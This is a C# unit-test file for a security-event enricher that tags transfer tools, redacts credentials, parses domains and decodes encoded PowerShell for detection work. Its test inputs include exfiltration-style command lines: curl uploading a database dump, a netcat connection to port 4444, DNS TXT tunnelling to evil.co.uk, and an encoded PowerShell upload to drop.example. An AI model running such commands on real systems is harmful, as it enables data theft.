using Det0131.Datasets.Enrichment;
using Det0131.Models.Events;

namespace Det0131.Datasets.Tests.Enrichment;

public class EventEnricherTests
{
    private static readonly EventEnricher Enricher = new();

    [Fact]
    public void Enrich_ProcessStartWithUrl_FillsToolVerbAndFlow()
    {
        var e = new SecurityEvent
        {
            Kind = EventKind.ProcessStart, Platform = Platform.Windows, Host = "PC1", User = "CORP\\Alice", ProcessPath = "C:\\Temp\\SVHOST.EXE", OriginalName = "Curl.exe",
            CommandLine = "svhost.exe -u bob:Geheim9 -T c:\\db.sql https://Bucket.s3.Amazonaws.com:8443/x",
        };

        Enricher.Enrich(e);

        Assert.Equal(("pc1", "corp\\alice", "svhost.exe", "curl.exe"), (e.Host, e.User, e.Process, e.OriginalName));
        Assert.Equal(("curl", "upload-file"), (e.Tool, e.Verb));
        Assert.Equal(("ssl", "bucket.s3.amazonaws.com", 8443, null), (e.Application, e.Domain, e.DestinationPort, e.DestinationAddress));
        Assert.Equal("bucket.s3.amazonaws.com", e.RegisteredDomain);
        Assert.Equal("svhost.exe -u bob:[redacted] -T c:\\db.sql https://Bucket.s3.Amazonaws.com:8443/x", e.CommandLine);
        Assert.Equal(UserClass.Person, e.UserClass);
    }

    /// <summary>Twenty secrets that one call read were one resource, <c>secret:[redacted]</c>.</summary>
    [Theory]
    [InlineData("secret:app/db-login-AbCdEf", "secret:app/db-login-AbCdEf")]
    [InlineData("token:ci", "token:ci")]
    [InlineData("secret:x?token=abcdef0123", "secret:x?token=[redacted]")]
    [InlineData("https://bob:Geheim9@store.example/a", "https://[redacted]@store.example/a")]
    [InlineData("payroll", "payroll")]
    public void Enrich_CloudResource_KeepsKindAndNameAndHidesValues(string resource, string expected)
    {
        var e = new SecurityEvent { Kind = EventKind.CloudApiCall, CloudResource = resource };

        Enricher.Enrich(e);

        Assert.Equal(expected, e.CloudResource);
    }

    [Fact]
    public void Enrich_AddressOnCommandLine_IsLocated()
    {
        var e = new SecurityEvent { Kind = EventKind.ProcessStart, Process = "nc", CommandLine = "nc 8.8.8.8 4444" };

        Enricher.Enrich(e);

        Assert.Equal(("8.8.8.8", (int?)4444, null, null), (e.DestinationAddress, e.DestinationPort, e.Domain, e.Application));
        Assert.Equal("US", e.DestinationCountry);
        Assert.Equal("AS15169 Google LLC", e.DestinationNetwork);
        Assert.Null(e.RegisteredDomain);
    }

    [Fact]
    public void Enrich_ResolverClient_TellsServerAndName()
    {
        var e = new SecurityEvent { Kind = EventKind.ProcessStart, Process = "dig", CommandLine = "dig @8.8.8.8 txt c2VjcmV0.Evil.co.uk" };

        Enricher.Enrich(e);

        Assert.Equal(("dns", "8.8.8.8", "c2vjcmv0.evil.co.uk", "TXT", "evil.co.uk"), (e.Application, e.DestinationAddress, e.DnsName, e.DnsType, e.RegisteredDomain));
    }

    [Theory]
    [InlineData("10.1.2.3", null, null, null)]
    [InlineData(null, 80, null, null)]
    [InlineData(null, null, "a.example", null)]
    [InlineData(null, null, null, "ftp")]
    public void Enrich_FlowFieldGiven_LineDoesNotReplaceIt(string? address, int? port, string? domain, string? application)
    {
        var e = new SecurityEvent
        {
            Kind = EventKind.ProcessStart, Process = "curl", CommandLine = "curl https://other.example",
            DestinationAddress = address, DestinationPort = port, Domain = domain, Application = application,
        };

        Enricher.Enrich(e);

        Assert.Equal((address, port, domain, application), (e.DestinationAddress, e.DestinationPort, e.Domain, e.Application));
        Assert.Equal("curl", e.Tool);
    }

    [Fact]
    public void Enrich_FlowOfTool_KeepsAbsentAbsent()
    {
        var e = new SecurityEvent { Kind = EventKind.NetworkFlow, Process = "curl", DestinationAddress = "192.168.1.1", DestinationPort = 443, SourceAddress = "-" };

        Enricher.Enrich(e);

        Assert.Equal("curl", e.Tool);
        Assert.Null(e.Application);
        Assert.Null(e.DestinationCountry);
        Assert.Null(e.Domain);
        Assert.Null(e.RegisteredDomain);
        Assert.Equal(UserClass.Unknown, e.UserClass);
    }

    [Theory]
    [InlineData(EventKind.DnsQuery, "WWW.Example.CO.UK.", "example.co.uk")]
    [InlineData(EventKind.DnsQuery, "#1a2b3c4d", null)]
    [InlineData(EventKind.DnsQuery, "fileserver", "fileserver")]
    [InlineData(EventKind.DnsQuery, ".", null)]
    public void Enrich_Query_SetsRegisteredDomain(EventKind kind, string name, string? expected)
    {
        var e = new SecurityEvent { Kind = kind, DnsName = name };

        Enricher.Enrich(e);

        Assert.Equal(expected, e.RegisteredDomain);
    }

    [Theory]
    [InlineData("http", "10.0.0.5", "10.0.0.5")]
    [InlineData("http", "2001:db8::1", "2001:db8::1")]
    [InlineData("http", "münchen.example", "xn--mnchen-3ya.example")]
    [InlineData("http", "co.uk", "co.uk")]
    [InlineData("http", "a..b", "a..b")]
    public void Enrich_Domain_SetsRegisteredDomain(string application, string domain, string expected)
    {
        var e = new SecurityEvent { Kind = EventKind.NetworkFlow, Application = application, Domain = domain };

        Enricher.Enrich(e);

        Assert.Equal(expected, e.RegisteredDomain);
    }

    [Fact]
    public void Enrich_EncodedPowerShell_IsReadAndNotStored()
    {
        var script = "iwr -Method Post -InFile c:\\db.sql https://drop.example/in";
        var line = "powershell -nop -enc " + Convert.ToBase64String(System.Text.Encoding.Unicode.GetBytes(script));
        var e = new SecurityEvent { Kind = EventKind.ProcessStart, Process = "powershell.exe", CommandLine = line };

        Enricher.Enrich(e);

        Assert.Equal(("powershell", "upload-file", "drop.example", line), (e.Tool, e.Verb, e.Domain, e.CommandLine));
    }

    [Fact]
    public void Enrich_Archive_IsNoTransferTool()
    {
        var e = new SecurityEvent { Kind = EventKind.ProcessStart, Process = "7z.exe", CommandLine = "7z a -pGeheim x.7z c:\\d", FilePath = "C:\\D\\Backup.TAR.GZ" };

        Enricher.Enrich(e);

        Assert.Null(e.Tool);
        Assert.Equal("7z a -p[redacted] x.7z c:\\d", e.CommandLine);
        Assert.Equal(".tar.gz", e.FileExtension);
    }

    [Fact]
    public void Enrich_Twice_ChangesNothing()
    {
        var once = Sample();
        Enricher.Enrich(once);
        var twice = new SecurityEvent();
        twice.CopyFrom(once);

        Enricher.Enrich(twice);

        foreach (var property in typeof(SecurityEvent).GetProperties())
        {
            Assert.Equal(property.GetValue(once), property.GetValue(twice));
        }
    }

    [Fact]
    public void Enrich_AnyText_NeverThrows()
    {
        var random = new Random(3);
        string Text() => string.Create(random.Next(40), random, (span, r) =>
        {
            foreach (ref char c in span)
            {
                c = r.Next(8) == 0 ? (char)r.Next(1, 0x10000) : ".:/\\@-ab1 %*\"#"[r.Next(14)];
            }
        });
        for (int i = 0; i < 20_000; i++)
        {
            var e = new SecurityEvent
            {
                Kind = (EventKind)random.Next(1, 7), Host = Text(), User = Text(), Process = Text(), OriginalName = Text(), CommandLine = "curl " + Text(), Domain = i % 3 == 0 ? Text() : null,
                DnsName = Text(), FilePath = Text(), SourceAddress = Text(), DestinationAddress = i % 2 == 0 ? Text() : null, Raw = Text(), ProcessPath = Text(),
            };
            Enricher.Enrich(e);
            Assert.NotEqual("", e.RegisteredDomain);
        }
    }

    [Fact]
    public void Enrich_SteadyState_AllocatesNothing()
    {
        var enricher = new EventEnricher();
        var filled = Sample();
        filled.CommandLine = "curl -T x https://h.example/";
        filled.Raw = "{\"cmd\":\"curl -T x https://h.example/\",\"token\":null}";
        var e = new SecurityEvent();
        Run(enricher, filled, e);

        Assert.Equal(0, Allocation.LeastOfRounds(() => Run(enricher, filled, e)));

        static void Run(EventEnricher enricher, SecurityEvent filled, SecurityEvent e)
        {
            for (int i = 0; i < 10; i++)
            {
                e.CopyFrom(filled);
                enricher.Enrich(e);
            }
        }
    }

    private static SecurityEvent Sample() => new()
    {
        Kind = EventKind.ProcessStart, Platform = Platform.Linux, Host = "WEB1", User = "www-data", ProcessPath = "/usr/bin/curl", CommandLine = "curl -u a:b -T x https://h.example/",
        SourceAddress = "1.1.1.1", FilePath = "/var/x.SQL", Raw = "{\"cmd\":\"curl -u a:b\"}", ParentPath = "/bin/Bash",
    };
}
